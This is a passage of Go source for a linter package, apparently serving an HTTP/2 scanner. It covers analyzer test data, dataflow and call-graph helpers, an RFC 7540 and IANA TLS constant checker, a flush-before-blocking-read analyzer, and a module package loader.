	fmt.Println("id:", id) // error-returning but not on the critical surface
	return hc.WriteGoAway()
}

func badHTTP(w http.ResponseWriter, body []byte) {
	w.Write(body)       // want `\(http\.ResponseWriter\)\.Write: error return is silently discarded`
	defer w.Write(body) // want `defer \(http\.ResponseWriter\)\.Write: error return is silently discarded`
}

func goodHTTP(w http.ResponseWriter, body []byte) error {
	w.WriteHeader(http.StatusOK) // no error to drop
	if _, err := w.Write(body); err != nil {
		return err
	}
	_, _ = w.Write(body) // explicit discard is acknowledged
	return nil
}

func badPipeline(sw *store.Writer, ds *metrics.DebugServer, tr *trace.Tracer, rec *store.Record) {
	sw.Append(rec)      // want `\(\*store\.Writer\)\.Append: error return is silently discarded`
	sw.Flush()          // want `\(\*store\.Writer\)\.Flush: error return is silently discarded`
	defer sw.Flush()    // want `defer \(\*store\.Writer\)\.Flush: error return is silently discarded`
	ds.Close()          // want `\(\*metrics\.DebugServer\)\.Close: error return is silently discarded`
	tr.Subscribe(16)    // want `\(\*trace\.Tracer\)\.Subscribe: the returned Subscription is discarded`
	go tr.Subscribe(16) // want `go \(\*trace\.Tracer\)\.Subscribe: the returned Subscription is discarded`
}

func badFlightRec(fr *obs.FlightRecorder, a obs.Anomaly, evs []obs.Event) {
	fr.Dump(a, evs)    // want `\(\*obs\.FlightRecorder\)\.Dump: error return is silently discarded`
	fr.Close()         // want `\(\*obs\.FlightRecorder\)\.Close: error return is silently discarded`
	defer fr.Close()   // want `defer \(\*obs\.FlightRecorder\)\.Close: error return is silently discarded`
	go fr.Dump(a, evs) // want `go \(\*obs\.FlightRecorder\)\.Dump: error return is silently discarded`
}

func goodFlightRec(fr *obs.FlightRecorder, a obs.Anomaly, evs []obs.Event) error {
	if _, err := fr.Dump(a, evs); err != nil {
		return err
	}
	_, _ = fr.Dump(a, evs) // explicit discard is acknowledged
	_ = fr.Dumps()         // not on the critical surface
	return fr.Close()
}

func goodPipeline(sw *store.Writer, ds *metrics.DebugServer, tr *trace.Tracer, rec *store.Record) error {
	if err := sw.Append(rec); err != nil {
		return err
	}
	_ = sw.Flush() // explicit discard is acknowledged
	sub := tr.Subscribe(16)
	defer sub.Close() // Subscription.Close returns no error: nothing to drop
	_ = ds.Addr()     // not on the critical surface
	return ds.Close()
}
