package lint

// This file is the package's dataflow layer: the shared machinery the
// retain, hotalloc, and goroleak analyzers are built on. The syntax/type
// passes (uncheckederr, rfcconst, ...) only need to look at one expression
// at a time; these three need to know how values *move* — which locals alias
// a recycled payload, which functions a hot entry point can reach, which
// statements sit on a cold early-exit path. Everything here is
// intra-procedural plus a conservative same-package call graph: no SSA, no
// x/tools, just ordered walks over the type-checked AST the loader already
// produces.

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// --- comment directives ---

// ignoreDirective is one parsed //h2lint:ignore comment.
type ignoreDirective struct {
	analyzer string
	reason   string
	line     int
	file     string
}

// parseIgnores extracts every //h2lint:ignore directive of pkg. The accepted
// form is
//
//	//h2lint:ignore <analyzer> <reason...>
//
// and the directive suppresses diagnostics of that analyzer on its own line
// or the line directly below (so it works both as a trailing comment and as
// a line of its own above the construct). A reason is mandatory: a
// suppression nobody can re-evaluate later is a time bomb.
func parseIgnores(pkg *Package) []ignoreDirective {
	var out []ignoreDirective
	for _, file := range pkg.Files {
		for _, cg := range file.Comments {
			for _, c := range cg.List {
				rest, ok := strings.CutPrefix(c.Text, "//h2lint:ignore")
				if !ok {
					continue
				}
				fields := strings.Fields(rest)
				pos := pkg.Fset.Position(c.Pos())
				d := ignoreDirective{line: pos.Line, file: pos.Filename}
				if len(fields) > 0 {
					d.analyzer = fields[0]
				}
				if len(fields) > 1 {
					d.reason = strings.Join(fields[1:], " ")
				}
				out = append(out, d)
			}
		}
	}
	return out
}

// suppressed reports whether d is covered by one of the directives: same
// analyzer (or "all"), same file, directive on the diagnostic's line or the
// line above, and a non-empty reason.
func suppressed(d Diagnostic, dirs []ignoreDirective) bool {
	for _, dir := range dirs {
		if dir.reason == "" {
			continue
		}
		if dir.analyzer != d.Analyzer && dir.analyzer != "all" {
			continue
		}
		if dir.file != d.Pos.Filename {
			continue
		}
		if dir.line == d.Pos.Line || dir.line == d.Pos.Line-1 {
			return true
		}
	}
	return false
}

// hasHotPathDirective reports whether fn's doc comment carries the
// //h2:hotpath marker, opting the function into hotalloc's reachability
// roots.
func hasHotPathDirective(fn *ast.FuncDecl) bool {
	if fn.Doc == nil {
		return false
	}
	for _, c := range fn.Doc.List {
		if strings.HasPrefix(c.Text, "//h2:hotpath") {
			return true
		}
	}
	return false
}

// --- call graph ---

// funcDecls maps every function and method declared in the package to its
// declaration.
func funcDecls(pass *Pass) map[*types.Func]*ast.FuncDecl {
	out := make(map[*types.Func]*ast.FuncDecl)
	info := pass.TypesInfo()
	for _, file := range pass.Files() {
		for _, decl := range file.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Name == nil {
				continue
			}
			if f, ok := info.Defs[fd.Name].(*types.Func); ok {
				out[f] = fd
			}
		}
	}
	return out
}

// callees returns the distinct same-package functions the statically
// resolvable calls under root invoke. Calls through function values,
// interfaces the checker cannot devirtualize, and other packages are
// silently absent — the conservative direction for reachability walks that
// trust what they cannot see.
func callees(info *types.Info, root ast.Node, decls map[*types.Func]*ast.FuncDecl) []*types.Func {
	var out []*types.Func
	seen := make(map[*types.Func]bool)
	ast.Inspect(root, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		f := calleeFunc(info, call)
		if f == nil || seen[f] {
			return true
		}
		if _, local := decls[f]; local {
			seen[f] = true
			out = append(out, f)
		}
		return true
	})
	return out
}

// reachableFrom walks the same-package call graph from the root set and
// returns, for every reachable function, the root it was first reached from
// (roots map to themselves).
func reachableFrom(info *types.Info, roots []*types.Func, decls map[*types.Func]*ast.FuncDecl) map[*types.Func]*types.Func {
	out := make(map[*types.Func]*types.Func)
	var queue []*types.Func
	for _, r := range roots {
		if _, ok := decls[r]; !ok {
			continue
		}
		if _, ok := out[r]; !ok {
			out[r] = r
			queue = append(queue, r)
		}
	}
	for len(queue) > 0 {
		fn := queue[0]
		queue = queue[1:]
		decl := decls[fn]
		if decl == nil || decl.Body == nil {
			continue
		}
		for _, callee := range callees(info, decl.Body, decls) {
			if _, ok := out[callee]; !ok {
				out[callee] = out[fn]
				queue = append(queue, callee)
			}
		}
	}
	return out
}

// --- cold-path classification ---

// blockTerminates reports whether a statement list unconditionally leaves
// the surrounding flow (its last statement is a return, panic, or branch).
func blockTerminates(info *types.Info, stmts []ast.Stmt) bool {
	if len(stmts) == 0 {
		return false
	}
	return terminatesFlow(info, stmts[len(stmts)-1])
}

// coldBlocks collects the early-exit blocks of fn: if/else bodies that end
// by leaving the flow. The hot-path analyzers treat allocations inside them
// as error-path work the steady state never executes — the same distinction
// the 0 allocs/op gate draws dynamically, drawn statically.
func coldBlocks(info *types.Info, fn ast.Node) map[*ast.BlockStmt]bool {
	cold := make(map[*ast.BlockStmt]bool)
	ast.Inspect(fn, func(n ast.Node) bool {
		ifStmt, ok := n.(*ast.IfStmt)
		if !ok {
			return true
		}
		if blockTerminates(info, ifStmt.Body.List) {
			cold[ifStmt.Body] = true
		}
		if els, ok := ifStmt.Else.(*ast.BlockStmt); ok && blockTerminates(info, els.List) {
			cold[els] = true
		}
		return true
	})
	return cold
}

// inColdBlock reports whether pos falls inside one of the collected cold
// blocks.
func inColdBlock(cold map[*ast.BlockStmt]bool, pos token.Pos) bool {
	for b := range cold {
		if b.Pos() <= pos && pos < b.End() {
			return true
		}
	}
	return false
}

// --- alias / escape helpers ---

// typeRetainsPointers reports whether storing a value of type t can retain
// heap memory: slices, maps, pointers, interfaces, channels, functions, and
// aggregates containing them. Scalars and pointer-free structs/arrays copy
// by value, so assigning them cannot alias a recycled buffer.
func typeRetainsPointers(t types.Type) bool {
	return typeRetainsPointersSeen(t, make(map[types.Type]bool))
}

func typeRetainsPointersSeen(t types.Type, seen map[types.Type]bool) bool {
	if t == nil || seen[t] {
		return false
	}
	seen[t] = true
	switch u := t.Underlying().(type) {
	case *types.Basic:
		return u.Kind() == types.String || u.Kind() == types.UnsafePointer
	case *types.Pointer, *types.Slice, *types.Map, *types.Chan, *types.Signature, *types.Interface:
		return true
	case *types.Array:
		return typeRetainsPointersSeen(u.Elem(), seen)
	case *types.Struct:
		for i := 0; i < u.NumFields(); i++ {
			if typeRetainsPointersSeen(u.Field(i).Type(), seen) {
				return true
			}
		}
	}
	return false
}

// elemCopiesClean reports whether spreading a value of slice type t into
// append copies the payload out of the recycled buffer: true when the
// element type itself retains no pointers (append(dst, data...) on []byte or
// []Setting deep-copies; on []Frame it would retain the frames).
func elemCopiesClean(t types.Type) bool {
	sl, ok := t.Underlying().(*types.Slice)
	if !ok {
		return false
	}
	return !typeRetainsPointers(sl.Elem())
}

// enclosingLoop returns the innermost for/range statement in stack (a path
// of ancestors, outermost first) that encloses the last element, or nil.
func enclosingLoop(stack []ast.Node) ast.Stmt {
	for i := len(stack) - 1; i >= 0; i-- {
		switch s := stack[i].(type) {
		case *ast.ForStmt:
			return s
		case *ast.RangeStmt:
			return s
		}
	}
	return nil
}

// declaredWithin reports whether obj's declaration lies inside node's source
// range.
func declaredWithin(obj types.Object, node ast.Node) bool {
	if obj == nil || node == nil {
		return false
	}
	return node.Pos() <= obj.Pos() && obj.Pos() < node.End()
}

// localObject resolves an identifier expression to the object it names when
// that object is a variable, and nil otherwise.
func localObject(info *types.Info, expr ast.Expr) *types.Var {
	id, ok := ast.Unparen(expr).(*ast.Ident)
	if !ok {
		return nil
	}
	obj := info.Uses[id]
	if obj == nil {
		obj = info.Defs[id]
	}
	v, _ := obj.(*types.Var)
	return v
}

// isConversion reports whether call is a type conversion (not a function or
// builtin call), returning the target type.
func isConversion(info *types.Info, call *ast.CallExpr) (types.Type, bool) {
	tv, ok := info.Types[ast.Unparen(call.Fun)]
	if !ok || !tv.IsType() {
		return nil, false
	}
	return tv.Type, true
}

// builtinName returns the name of the builtin a call invokes ("" otherwise).
func builtinName(info *types.Info, call *ast.CallExpr) string {
	id, ok := ast.Unparen(call.Fun).(*ast.Ident)
	if !ok {
		return ""
	}
	if b, ok := info.Uses[id].(*types.Builtin); ok {
		return b.Name()
	}
	return ""
}

// calleePkgPath returns the package path of the function a call statically
// invokes ("" for builtins, conversions, and function values).
func calleePkgPath(info *types.Info, call *ast.CallExpr) string {
	f := calleeFunc(info, call)
	if f == nil || f.Pkg() == nil {
		return ""
	}
	return f.Pkg().Path()
}
