package lint

import "testing"

// BenchmarkLintRepo measures a full 9-analyzer sweep over every package in
// the module — the exact work `go run ./cmd/h2lint ./...` performs minus
// process startup. Loading and type-checking happen once outside the timed
// loop so the number tracks analysis cost, not parser throughput; CI archives
// it to BENCH_lint.json so the trajectory shows when a new analyzer (or a
// call-graph regression) makes the sweep noticeably slower.
func BenchmarkLintRepo(b *testing.B) {
	l, err := sharedLoader()
	if err != nil {
		b.Fatalf("NewLoader: %v", err)
	}
	pkgs, err := l.Load("./...")
	if err != nil {
		b.Fatalf("Load ./...: %v", err)
	}
	analyzers := All()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = Run(analyzers, pkgs)
	}
}
