package lint

import (
	"go/constant"
	"go/types"
)

// RFCConstAnalyzer cross-checks the frame package's protocol constants
// against an embedded RFC 7540 table. The frame-type, flag, settings-ID and
// error-code vocabularies are the scanner's ground truth: a typo'd constant
// would make every probe misclassify server reactions while every test that
// shares the constant still passes. This analyzer makes such a typo a build
// failure instead.
//
// It applies to any package named "frame" that declares the protocol enum
// types (Type, Flags, SettingID, ErrCode) — the real internal/frame plus
// golden-test replicas — and enforces three things: every declared constant
// of an enum type must be a name the RFC defines, its value must match the
// RFC, and no RFC name may be missing from the package.
//
// Packages named "fingerprint" get the same treatment for their
// ExtensionID constants, against the IANA "TLS ExtensionType Values"
// registry: a typo'd extension code would silently shift every JA3/JA4
// fingerprint the plane computes.
var RFCConstAnalyzer = &Analyzer{
	Name: "rfcconst",
	Doc:  "verifies frame-type, flag, settings-ID, error-code, and TLS extension-ID constants against their RFCs",
	Run:  runRFCConst,
}

// rfc7540 holds the wire values RFC 7540 assigns, keyed by the enum type
// name and the constant name the frame package uses for each of them.
var rfc7540 = map[string]map[string]uint64{
	// Frame types, RFC 7540 section 6.
	"Type": {
		"TypeData":         0x0,
		"TypeHeaders":      0x1,
		"TypePriority":     0x2,
		"TypeRSTStream":    0x3,
		"TypeSettings":     0x4,
		"TypePushPromise":  0x5,
		"TypePing":         0x6,
		"TypeGoAway":       0x7,
		"TypeWindowUpdate": 0x8,
		"TypeContinuation": 0x9,
	},
	// Frame flags, RFC 7540 section 6 (per-type but value-disjoint).
	"Flags": {
		"FlagEndStream":  0x1,
		"FlagAck":        0x1,
		"FlagEndHeaders": 0x4,
		"FlagPadded":     0x8,
		"FlagPriority":   0x20,
	},
	// SETTINGS parameters, RFC 7540 section 6.5.2.
	"SettingID": {
		"SettingHeaderTableSize":      0x1,
		"SettingEnablePush":           0x2,
		"SettingMaxConcurrentStreams": 0x3,
		"SettingInitialWindowSize":    0x4,
		"SettingMaxFrameSize":         0x5,
		"SettingMaxHeaderListSize":    0x6,
	},
	// Error codes, RFC 7540 section 7.
	"ErrCode": {
		"ErrCodeNo":                 0x0,
		"ErrCodeProtocol":           0x1,
		"ErrCodeInternal":           0x2,
		"ErrCodeFlowControl":        0x3,
		"ErrCodeSettingsTimeout":    0x4,
		"ErrCodeStreamClosed":       0x5,
		"ErrCodeFrameSize":          0x6,
		"ErrCodeRefusedStream":      0x7,
		"ErrCodeCancel":             0x8,
		"ErrCodeCompression":        0x9,
		"ErrCodeConnect":            0xa,
		"ErrCodeEnhanceYourCalm":    0xb,
		"ErrCodeInadequateSecurity": 0xc,
		"ErrCodeHTTP11Required":     0xd,
	},
}

// rfc7540Untyped holds protocol numbers the frame package declares as
// untyped constants; they are checked by name when present.
var rfc7540Untyped = map[string]uint64{
	"HeaderLen":                9,         // section 4.1
	"DefaultMaxFrameSize":      1 << 14,   // section 6.5.2
	"MaxAllowedFrameSize":      1<<24 - 1, // section 4.2
	"DefaultInitialWindowSize": 1<<16 - 1, // section 6.5.2
	"MaxWindowSize":            1<<31 - 1, // section 6.9.1
	"DefaultHeaderTableSize":   4096,      // RFC 7541 section 6.5.2
	"MaxStreamID":              1<<31 - 1, // section 5.1.1
}

// clientPreface is the section 3.5 connection preface.
const clientPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// ianaTLSExt holds the IANA "TLS ExtensionType Values" registry codes,
// keyed by the constant name the fingerprint package uses for each.
var ianaTLSExt = map[string]uint64{
	"ExtServerName":           0,
	"ExtSupportedGroups":      10,
	"ExtECPointFormats":       11,
	"ExtSignatureAlgorithms":  13,
	"ExtALPN":                 16,
	"ExtSCT":                  18,
	"ExtPadding":              21,
	"ExtExtendedMasterSecret": 23,
	"ExtSessionTicket":        35,
	"ExtPreSharedKey":         41,
	"ExtSupportedVersions":    43,
	"ExtPSKKeyExchangeModes":  45,
	"ExtKeyShare":             51,
	"ExtRenegotiationInfo":    0xff01,
}

func runRFCConst(pass *Pass) {
	switch pass.TypesPkg().Name() {
	case "frame":
		runFrameConst(pass)
	case "fingerprint":
		runTLSExtConst(pass)
	}
}

// runTLSExtConst checks a fingerprint package's ExtensionID constants
// against the IANA registry, with the same three rules as the frame
// tables: known names only, registry values only, no registry name absent.
func runTLSExtConst(pass *Pass) {
	scope := pass.TypesPkg().Scope()
	tn, ok := scope.Lookup("ExtensionID").(*types.TypeName)
	if !ok {
		return
	}
	found := make(map[string]bool, len(ianaTLSExt))
	for _, name := range scope.Names() {
		c, ok := scope.Lookup(name).(*types.Const)
		if !ok {
			continue
		}
		named, ok := c.Type().(*types.Named)
		if !ok || named.Obj() != tn {
			continue
		}
		want, known := ianaTLSExt[name]
		if !known {
			pass.Reportf(c.Pos(), "%s is not an IANA TLS ExtensionType constant name", name)
			continue
		}
		found[name] = true
		if got, exact := constant.Uint64Val(c.Val()); !exact || got != want {
			pass.Reportf(c.Pos(), "%s = %v, but IANA assigns %d", name, c.Val(), want)
		}
	}
	for constName := range ianaTLSExt {
		if !found[constName] {
			pass.Reportf(tn.Pos(), "IANA TLS extension constant %s is not declared", constName)
		}
	}
}

func runFrameConst(pass *Pass) {
	scope := pass.TypesPkg().Scope()

	// The analyzer only fires on packages declaring the enum types, so a
	// stray package that happens to be called "frame" is left alone.
	enums := make(map[string]*types.TypeName)
	for typeName := range rfc7540 {
		if tn, ok := scope.Lookup(typeName).(*types.TypeName); ok {
			enums[typeName] = tn
		}
	}
	if len(enums) == 0 {
		return
	}

	found := make(map[string]map[string]bool, len(rfc7540))
	for name := range rfc7540 {
		found[name] = make(map[string]bool)
	}

	for _, name := range scope.Names() {
		c, ok := scope.Lookup(name).(*types.Const)
		if !ok {
			continue
		}
		if name == "ClientPreface" {
			if constant.StringVal(c.Val()) != clientPreface {
				pass.Reportf(c.Pos(), "ClientPreface does not match the RFC 7540 section 3.5 preface")
			}
			continue
		}
		if want, ok := rfc7540Untyped[name]; ok {
			if got, exact := constant.Uint64Val(c.Val()); !exact || got != want {
				pass.Reportf(c.Pos(), "%s = %v, but RFC 7540 defines %d", name, c.Val(), want)
			}
			continue
		}
		named, ok := c.Type().(*types.Named)
		if !ok {
			continue
		}
		tn := named.Obj()
		table, isEnum := rfc7540[tn.Name()]
		if !isEnum || enums[tn.Name()] != tn {
			continue
		}
		want, known := table[name]
		if !known {
			pass.Reportf(c.Pos(), "%s is not an RFC 7540 %s constant name", name, tn.Name())
			continue
		}
		found[tn.Name()][name] = true
		if got, exact := constant.Uint64Val(c.Val()); !exact || got != want {
			pass.Reportf(c.Pos(), "%s = %v, but RFC 7540 defines 0x%x", name, c.Val(), want)
		}
	}

	for typeName, tn := range enums {
		for constName := range rfc7540[typeName] {
			if !found[typeName][constName] {
				pass.Reportf(tn.Pos(), "RFC 7540 %s constant %s is not declared", typeName, constName)
			}
		}
	}
}
