package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// BufflushAnalyzer guards the write-coalescing contract: a frame.Framer may
// buffer writes (SetWriteBuffering), so a Write* call followed by a blocking
// read in the same function — the framer's own ReadFrame, or an h2conn.Conn
// waiter — deadlocks unless a Flush sits between them: the peer never sees
// the frames the function is waiting for it to answer. Flush on an
// unbuffered framer is a no-op, so the rule is safe to follow universally.
//
// The analysis is intraprocedural and source-ordered, with loop bodies
// replayed once to model the back edge (a write at the bottom of a serve
// loop must be flushed before the ReadFrame at the top of the next
// iteration). It is deliberately forgiving at function boundaries: calling
// any function whose name contains "flush", or handing the framer itself to
// a helper, counts as a flush. Deferred and go-routine'd calls are outside
// the function's sequential flow and are ignored.
var BufflushAnalyzer = &Analyzer{
	Name: "bufflush",
	Doc:  "flags framer writes that can reach a blocking read in the same function with no Flush in between",
	Run:  runBufflush,
}

func runBufflush(pass *Pass) {
	info := pass.TypesInfo()
	for _, file := range pass.Files() {
		ast.Inspect(file, func(n ast.Node) bool {
			var body *ast.BlockStmt
			switch fn := n.(type) {
			case *ast.FuncDecl:
				body = fn.Body
			case *ast.FuncLit:
				body = fn.Body
			}
			if body == nil {
				return true
			}
			reportUnflushed(pass, bufEvents(info, body))
			return true
		})
	}
}

// bfKind classifies the three event types the scan cares about.
type bfKind uint8

const (
	bfWrite bfKind = iota
	bfFlush
	bfBlock
)

// bfEvent is one framer-relevant call in execution order.
type bfEvent struct {
	kind bfKind
	pos  token.Pos
	name string
}

// reportUnflushed runs the linear scan: each write must meet a flush before
// the next blocking call, else it is stuck in the buffer while the function
// waits on the peer.
func reportUnflushed(pass *Pass, evs []bfEvent) {
	reported := make(map[token.Pos]bool)
	for i, ev := range evs {
		if ev.kind != bfWrite || reported[ev.pos] {
			continue
		}
	scan:
		for _, later := range evs[i+1:] {
			switch later.kind {
			case bfFlush:
				break scan
			case bfBlock:
				reported[ev.pos] = true
				pass.Reportf(ev.pos,
					"%s may sit in the write buffer while %s blocks on the peer (line %d) — call Flush between them",
					ev.name, later.name, pass.Fset.Position(later.pos).Line)
				break scan
			}
		}
	}
}

// bufEvents collects framer events under n in execution order. Loop bodies
// are appended twice so a write late in the body is checked against a
// blocking call early in the next iteration. Function literals are skipped
// (each is analyzed as its own function), as are defer and go statements,
// which leave the sequential flow.
func bufEvents(info *types.Info, n ast.Node) []bfEvent {
	var evs []bfEvent
	if n == nil {
		return evs
	}
	ast.Inspect(n, func(x ast.Node) bool {
		switch s := x.(type) {
		case *ast.FuncLit, *ast.DeferStmt, *ast.GoStmt:
			return false
		case *ast.ForStmt:
			evs = append(evs, bufEvents(info, s.Init)...)
			evs = append(evs, bufEvents(info, s.Cond)...)
			body := bufEvents(info, s.Body)
			body = append(body, bufEvents(info, s.Post)...)
			evs = append(evs, body...)
			evs = append(evs, body...)
			return false
		case *ast.RangeStmt:
			evs = append(evs, bufEvents(info, s.X)...)
			body := bufEvents(info, s.Body)
			evs = append(evs, body...)
			evs = append(evs, body...)
			return false
		case *ast.CallExpr:
			// Arguments evaluate before the call itself:
			// flushAfter(fr.WritePing(...)) is write-then-flush.
			evs = append(evs, bufEvents(info, s.Fun)...)
			for _, arg := range s.Args {
				evs = append(evs, bufEvents(info, arg)...)
			}
			if ev, ok := classifyBufCall(info, s); ok {
				evs = append(evs, ev)
			}
			return false
		}
		return true
	})
	return evs
}

// classifyBufCall maps one call to an event, or reports none.
func classifyBufCall(info *types.Info, call *ast.CallExpr) (bfEvent, bool) {
	f := calleeFunc(info, call)
	if f == nil {
		return bfEvent{}, false
	}
	recv := recvTypeOf(info, call)
	if recv != nil && namedTypeIs(recv, "internal/frame", "Framer") {
		switch {
		case f.Name() == "Flush":
			return bfEvent{kind: bfFlush, pos: call.Pos()}, true
		case f.Name() == "ReadFrame":
			return bfEvent{kind: bfBlock, pos: call.Pos(), name: "(*frame.Framer).ReadFrame"}, true
		case strings.HasPrefix(f.Name(), "Write"):
			return bfEvent{kind: bfWrite, pos: call.Pos(), name: "(*frame.Framer)." + f.Name()}, true
		}
	}
	if recv != nil && isH2Conn(recv) {
		switch f.Name() {
		case "WaitFor", "WaitSettings", "WaitQuiet", "Ping", "FetchBody":
			return bfEvent{kind: bfBlock, pos: call.Pos(), name: "(*h2conn.Conn)." + f.Name()}, true
		}
	}
	// A helper with "flush" in its name, or one handed the framer itself,
	// is trusted to flush.
	if strings.Contains(strings.ToLower(f.Name()), "flush") {
		return bfEvent{kind: bfFlush, pos: call.Pos()}, true
	}
	for _, arg := range call.Args {
		if t := info.TypeOf(arg); t != nil && namedTypeIs(t, "internal/frame", "Framer") {
			return bfEvent{kind: bfFlush, pos: call.Pos()}, true
		}
	}
	return bfEvent{}, false
}
