package lint

import (
	"fmt"
	"go/ast"
	"go/build"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
)

// Package is one loaded, type-checked package.
type Package struct {
	// Path is the package's import path within the module.
	Path string
	// Dir is the absolute directory the package was loaded from.
	Dir string
	// Fset is the loader-wide file set (shared across packages).
	Fset *token.FileSet
	// Files holds the parsed non-test sources, sorted by file name.
	Files []*ast.File
	// Types and Info are the go/types results.
	Types *types.Package
	Info  *types.Info
}

// disableCgo makes the stdlib source importer usable: with cgo enabled,
// go/build selects cgo variants of net/os files that the pure-Go
// type-checking path cannot process. The pure-Go variants type-check
// identically for analysis purposes.
var disableCgo = sync.OnceFunc(func() { build.Default.CgoEnabled = false })

// Loader parses and type-checks packages of one module. It resolves
// module-internal imports by loading them recursively and standard-library
// imports through go/importer's source importer, so it needs nothing but
// GOROOT sources — no export data, no external tooling, no third-party
// module may be imported (the repo is stdlib-only by design, and the loader
// enforces it as a side effect).
//
// A Loader is not safe for concurrent use; it memoizes every package it has
// type-checked, so reusing one across many LoadDir calls amortizes the cost
// of type-checking the standard library.
type Loader struct {
	// ModuleRoot is the absolute directory containing go.mod.
	ModuleRoot string
	// ModulePath is the module path declared in go.mod.
	ModulePath string

	fset *token.FileSet
	std  types.Importer
	pkgs map[string]*Package // by import path
	// loading marks packages currently on the recursion stack, for import
	// cycle detection.
	loading map[string]bool
}

// NewLoader returns a loader for the module that contains dir.
func NewLoader(dir string) (*Loader, error) {
	disableCgo()
	root, modPath, err := findModule(dir)
	if err != nil {
		return nil, err
	}
	fset := token.NewFileSet()
	return &Loader{
		ModuleRoot: root,
		ModulePath: modPath,
		fset:       fset,
		std:        importer.ForCompiler(fset, "source", nil),
		pkgs:       make(map[string]*Package),
		loading:    make(map[string]bool),
	}, nil
}

// findModule walks up from dir to the enclosing go.mod and returns the
// module root directory and module path.
func findModule(dir string) (root, path string, err error) {
	abs, err := filepath.Abs(dir)
	if err != nil {
		return "", "", err
	}
	for d := abs; ; {
		data, err := os.ReadFile(filepath.Join(d, "go.mod"))
		if err == nil {
			for _, line := range strings.Split(string(data), "\n") {
				line = strings.TrimSpace(line)
				if rest, ok := strings.CutPrefix(line, "module "); ok {
					return d, strings.TrimSpace(rest), nil
				}
			}
			return "", "", fmt.Errorf("lint: %s/go.mod has no module directive", d)
		}
		parent := filepath.Dir(d)
		if parent == d {
			return "", "", fmt.Errorf("lint: no go.mod found above %s", abs)
		}
		d = parent
	}
}

// Load expands the given patterns and returns the matched packages,
// type-checked, in deterministic (import path) order. Supported patterns:
// "./..." (every package under the module root), a directory path relative
// to the module root or absolute, or an import path within the module.
// Directories named "testdata", hidden directories, and directories without
// non-test Go files are skipped during "./..." expansion.
func (l *Loader) Load(patterns ...string) ([]*Package, error) {
	var dirs []string
	seen := make(map[string]bool)
	add := func(d string) {
		if !seen[d] {
			seen[d] = true
			dirs = append(dirs, d)
		}
	}
	for _, pat := range patterns {
		switch {
		case pat == "./..." || pat == "...":
			walked, err := l.walkModule()
			if err != nil {
				return nil, err
			}
			for _, d := range walked {
				add(d)
			}
		case strings.HasPrefix(pat, l.ModulePath+"/") || pat == l.ModulePath:
			rel := strings.TrimPrefix(strings.TrimPrefix(pat, l.ModulePath), "/")
			add(filepath.Join(l.ModuleRoot, rel))
		case filepath.IsAbs(pat):
			add(filepath.Clean(pat))
		default:
			add(filepath.Join(l.ModuleRoot, filepath.Clean(pat)))
		}
	}
	pkgs := make([]*Package, 0, len(dirs))
	for _, dir := range dirs {
		pkg, err := l.LoadDir(dir)
		if err != nil {
			return nil, err
		}
		pkgs = append(pkgs, pkg)
	}
	sort.Slice(pkgs, func(i, j int) bool { return pkgs[i].Path < pkgs[j].Path })
	return pkgs, nil
}

// walkModule returns every directory under the module root that holds at
// least one non-test Go file, skipping testdata, hidden, and underscore
// directories (the same convention the go tool applies to "./...").
func (l *Loader) walkModule() ([]string, error) {
	var dirs []string
	err := filepath.WalkDir(l.ModuleRoot, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			return nil
		}
		name := d.Name()
		if path != l.ModuleRoot &&
			(name == "testdata" || strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_")) {
			return filepath.SkipDir
		}
		files, err := goFilesIn(path)
		if err != nil {
			return err
		}
		if len(files) > 0 {
			dirs = append(dirs, path)
		}
		return nil
	})
	return dirs, err
}

// goFilesIn lists the non-test Go files of dir, sorted.
func goFilesIn(dir string) ([]string, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var files []string
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") ||
			strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_") {
			continue
		}
		files = append(files, filepath.Join(dir, name))
	}
	sort.Strings(files)
	return files, nil
}

// importPathFor maps an absolute directory under the module root to its
// import path.
func (l *Loader) importPathFor(dir string) (string, error) {
	rel, err := filepath.Rel(l.ModuleRoot, dir)
	if err != nil || strings.HasPrefix(rel, "..") {
		return "", fmt.Errorf("lint: %s is outside module %s", dir, l.ModuleRoot)
	}
	if rel == "." {
		return l.ModulePath, nil
	}
	return l.ModulePath + "/" + filepath.ToSlash(rel), nil
}

// LoadDir parses and type-checks the package in dir (which must be inside
// the loader's module), loading module-internal imports recursively.
func (l *Loader) LoadDir(dir string) (*Package, error) {
	abs, err := filepath.Abs(dir)
	if err != nil {
		return nil, err
	}
	path, err := l.importPathFor(abs)
	if err != nil {
		return nil, err
	}
	return l.loadPath(path, abs)
}

// Import implements types.Importer: module-internal packages load
// recursively, everything else goes to the standard-library source
// importer.
func (l *Loader) Import(path string) (*types.Package, error) {
	if path == l.ModulePath || strings.HasPrefix(path, l.ModulePath+"/") {
		rel := strings.TrimPrefix(strings.TrimPrefix(path, l.ModulePath), "/")
		pkg, err := l.loadPath(path, filepath.Join(l.ModuleRoot, rel))
		if err != nil {
			return nil, err
		}
		return pkg.Types, nil
	}
	return l.std.Import(path)
}

func (l *Loader) loadPath(path, dir string) (*Package, error) {
	if pkg, ok := l.pkgs[path]; ok {
		return pkg, nil
	}
	if l.loading[path] {
		return nil, fmt.Errorf("lint: import cycle through %s", path)
	}
	l.loading[path] = true
	defer delete(l.loading, path)

	files, err := goFilesIn(dir)
	if err != nil {
		return nil, fmt.Errorf("lint: %s: %w", path, err)
	}
	if len(files) == 0 {
		return nil, fmt.Errorf("lint: no Go files in %s", dir)
	}
	asts := make([]*ast.File, 0, len(files))
	for _, f := range files {
		file, err := parser.ParseFile(l.fset, f, nil, parser.ParseComments)
		if err != nil {
			return nil, fmt.Errorf("lint: %w", err)
		}
		asts = append(asts, file)
	}

	info := &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
